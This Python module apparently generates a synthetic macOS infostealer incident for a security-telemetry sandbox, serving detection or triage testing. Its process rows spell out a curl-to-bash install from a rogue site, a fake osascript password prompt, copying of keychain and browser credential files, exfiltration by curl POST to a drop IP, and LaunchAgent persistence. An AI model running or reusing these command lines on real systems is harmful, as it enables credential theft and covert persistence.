"""A Mac whose user installed what a page told to, and gave it the password."""

from __future__ import annotations

from datetime import datetime, timedelta

from sandbox.telemetry.traces import Process
from sandbox.tenant.evidence import device, file, incident, ip, url

from .intrusion import Intrusion

MAC, SITE, SITE_IP, DROP = "mac-001.contoso.com", "brew-setup.rogue.example", "203.0.113.150", "203.0.113.151"
HOME = "/Users/user40"
AGENT = f"{HOME}/Library/LaunchAgents/com.finder.helper.plist"


def stealer(end: datetime) -> Intrusion:
    """A pasted line asks for the password, packs keychain and browser stores, sends them, and stays."""
    at = end - timedelta(minutes=65)

    def after(**span: int) -> datetime:
        return at + timedelta(**span)

    zsh = _mac(
        "zsh",
        "-zsh",
        Process(
            MAC,
            "mac",
            "terminal",
            "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
            "user40",
        ),
    )
    fetch = _mac("curl", f"curl -fsSL https://{SITE}/install.sh", zsh)
    bash = _mac("bash", f'/bin/bash -c "$(curl -fsSL https://{SITE}/install.sh)"', zsh)
    prompt = _mac(
        "osascript",
        'osascript -e display dialog "To continue, macOS needs your password." with title "System Preferences" with icon caution default answer "" giving up after 150 with hidden answer',
        bash,
    )
    copied = (
        f"{HOME}/Library/Keychains/login.keychain-db",
        f"{HOME}/Library/Application Support/Google/Chrome/Default/Login Data",
        f"{HOME}/Library/Application Support/Google/Chrome/Default/Cookies",
        f"{HOME}/Library/Application Support/Firefox/Profiles/k2.default-release/logins.json",
    )
    pack = _mac("ditto", "ditto -c -k --sequesterRsrc /tmp/.7f2c /tmp/out.zip", bash)
    send = _mac("curl", f"curl -s -X POST -H user:user40 -F file=@/tmp/out.zip http://{DROP}/log", bash)
    # fmt: off
    rows = [
        bash.started(at),
        fetch.started(at),
        fetch.connected(after(seconds=1), SITE_IP, 443, SITE),
        prompt.started(after(seconds=4)),
        _mac("dscl", "dscl . -authonly user40 hunter2", bash).started(after(seconds=21)),
        _mac("system_profiler", "system_profiler SPHardwareDataType SPDisplaysDataType", bash).started(after(seconds=23)),
        *(_mac("/bin/cp", f"cp {path} /tmp/.7f2c/", bash).started(after(seconds=30 + n)) for n, path in enumerate(copied)),
        *(_mac("/bin/cp", f"cp {path} /tmp/.7f2c/", bash).wrote(after(seconds=30 + n), f"/private/tmp/.7f2c/{path.rpartition('/')[2]}") for n, path in enumerate(copied)),
        _mac("security", "security find-generic-password -ga Chrome", bash).started(after(seconds=36)),
        pack.started(after(seconds=50)),
        pack.wrote(after(seconds=52), "/private/tmp/out.zip"),
        send.started(after(seconds=55)),
        send.connected(after(seconds=56), DROP, 80),
        bash.wrote(after(minutes=2), f"{HOME}/.helper"),
        _mac("xattr", f"xattr -c {HOME}/.helper", bash).started(after(minutes=2, seconds=1)),
        bash.wrote(after(minutes=2, seconds=2), AGENT),
        bash.did(after(minutes=2, seconds=2), "PlistPropertyModified", {"PlistKey": "RunAtLoad"}, FolderPath=AGENT),
        _mac("launchctl", f"launchctl load -w {AGENT}", bash).started(after(minutes=2, seconds=3)),
        *(_mac(f"{HOME}/.helper", f"{HOME}/.helper").connected(after(minutes=n), DROP, 443) for n in (3, 18, 33)),
    ]
    # fmt: on
    return Intrusion(
        "stealer",
        incident(
            4111,
            "Possible infostealer on mac-001",
            "high",
            "CredentialAccess",
            at,
            after(minutes=3),
            device(MAC, "macOS"),
            url(f"https://{SITE}/install.sh", "malicious"),
            ip(DROP, "suspicious"),
            file(
                MAC,
                f"{HOME}/",
                ".helper",
                str(next(row["SHA1"] for _, row in rows if row.get("FileName") == ".helper")),
                "suspicious",
            ),
        ),
        rows,
    )  # fmt: skip


def _mac(program: str, command: str, parent: Process | None = None) -> Process:
    return Process(MAC, "mac", program, command, "user40", parent)
